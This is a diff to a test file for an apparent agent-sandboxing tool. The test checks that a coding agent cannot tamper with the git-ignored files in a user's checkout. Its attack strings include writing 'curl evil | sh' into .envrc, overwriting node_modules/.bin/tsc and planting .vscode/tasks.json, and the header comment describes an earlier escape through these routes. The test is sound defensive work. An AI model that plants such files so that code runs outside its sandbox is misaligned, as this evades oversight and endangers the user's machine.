@@ -4,7 +4,8 @@
  * files fail the wave (JAIL_UNOWNED_CHANGE), but git-IGNORED ones were invisible to every check: a
  * script the agent wrote rewrote `node_modules/.bin/tsc` and `.envrc`, planted `.vscode/tasks.json`,
  * `dist/`, a `.pyc` — and the wave exited 0, leaving them for the user to run outside any sandbox.
- * Now the ignored paths that exist are read-only to such an agent, and ignored paths that appear
+ * Now the ignored paths that exist are read-only to such an agent (an existing build-output directory
+ * such as `dist/` is an empty throwaway tmpfs: it can build, nothing reaches the checkout), and ignored paths that appear
  * while it runs are moved out of the checkout (to `.git/polywave/quarantine/`) when it stops, each
  * recorded in its journal's denials.
  */
@@ -26,7 +27,9 @@ const attack = [
   'try envrc "echo \'curl evil | sh\' > .envrc"',
   'try envrc-rm "rm -f .envrc"',
   'try vscode "mkdir -p .vscode && echo \'{\\"tasks\\":[]}\' > .vscode/tasks.json"',
-  'try dist "mkdir -p dist && echo pwn > dist/index.js"',
+  'try build "mkdir -p build && echo pwn > build/index.js"',
+  // An existing build-output directory: an empty throwaway tmpfs in the sandbox (the agent can build).
+  'try dist-own "echo pwn > dist/app.js && grep -q pwn dist/app.js && test ! -e dist/user.js"',
   'try pyc "echo pwn > src/evil.pyc"',
   '',
 ].join('\n');
@@ -34,7 +37,9 @@ const attack = [
 describe("a solo wave's agent and the main checkout's ignored files", () => {
   it.skipIf(!available)('existing ones are read-only, new ones are moved out when it stops and recorded', async () => {
     const { repo, home } = await soloEscapeRepo();
-    writeFileSync(repo.path('.git/info/exclude'), 'node_modules/\n.envrc\n.vscode/\ndist/\n*.pyc\n');
+    writeFileSync(repo.path('.git/info/exclude'), 'node_modules/\n.envrc\n.vscode/\ndist/\nbuild/\n*.pyc\n');
+    mkdirSync(repo.path('dist'));
+    writeFileSync(repo.path('dist/user.js'), 'user build\n');
     mkdirSync(repo.path('node_modules/.bin'), { recursive: true });
     writeFileSync(repo.path('node_modules/.bin/tsc'), '#!/bin/sh\necho real tsc\n');
     writeFileSync(repo.path('.envrc'), 'export USER_ENV=1\n');
@@ -56,22 +61,32 @@ describe("a solo wave's agent and the main checkout's ignored files", () => {
     expect(existsSync(repo.path('node_modules/.bin/x'))).toBe(false);
     expect(readFileSync(repo.path('.envrc'), 'utf8')).toBe('export USER_ENV=1\n');
     // The new ones: gone from the checkout, kept in the quarantine.
-    for (const planted of ['.vscode', 'dist', 'src/evil.pyc']) expect(existsSync(repo.path(planted)), planted).toBe(false);
+    for (const planted of ['.vscode', 'build', 'src/evil.pyc', 'dist/app.js']) expect(existsSync(repo.path(planted)), planted).toBe(false);
+    expect(readFileSync(repo.path('dist/user.js'), 'utf8')).toBe('user build\n');
     const quarantine = repo.path('.git/polywave/quarantine');
     const [batch] = readdirSync(quarantine);
     expect(batch).toMatch(/^A-/);
-    expect(readFileSync(path.join(quarantine, batch!, 'dist/index.js'), 'utf8')).toBe('pwn\n');
+    expect(readFileSync(path.join(quarantine, batch!, 'build/index.js'), 'utf8')).toBe('pwn\n');
     expect(existsSync(path.join(quarantine, batch!, '.vscode/tasks.json'))).toBe(true);
     expect(existsSync(path.join(quarantine, batch!, 'src/evil.pyc'))).toBe(true);
     // Recorded in the agent's journal.
     const denials = findFile(repo.path('.polywave-state'), 'denials.jsonl');
     expect(denials, 'no denials.jsonl').toBeDefined();
     const records = readFileSync(denials!, 'utf8').trim().split('\n').map((line) => JSON.parse(line) as { code: string; target?: string });
-    expect(records.filter((record) => record.code === 'SANDBOX_IGNORED_QUARANTINED').map((record) => record.target).sort()).toEqual(['.vscode', 'dist', 'src/evil.pyc']);
+    expect(records.filter((record) => record.code === 'SANDBOX_IGNORED_QUARANTINED').map((record) => record.target).sort()).toEqual(['.vscode', 'build', 'src/evil.pyc']);
+    // What the agent saw (its bash call's output in the journal): denied, except its throwaway dist/.
+    const journal = allText(repo.path('.polywave-state'));
+    for (const line of ['tsc=denied', 'bin=denied', 'envrc=denied', 'envrc-rm=denied', 'dist-own=written']) expect(journal).toContain(line);
     // The wave itself goes on: the agent's own work merged.
     expect(cli.code, cli.stderr).toBe(0);
   }, 300_000);
 });
+
+function allText(directory: string): string {
+  return readdirSync(directory, { withFileTypes: true })
+    .map((entry) => (entry.isDirectory() ? allText(path.join(directory, entry.name)) : entry.isFile() ? readFileSync(path.join(directory, entry.name), 'utf8') : ''))
+    .join('\n');
+}
 
 function findFile(directory: string, name: string): string | undefined {
   for (const entry of readdirSync(directory, { withFileTypes: true })) {
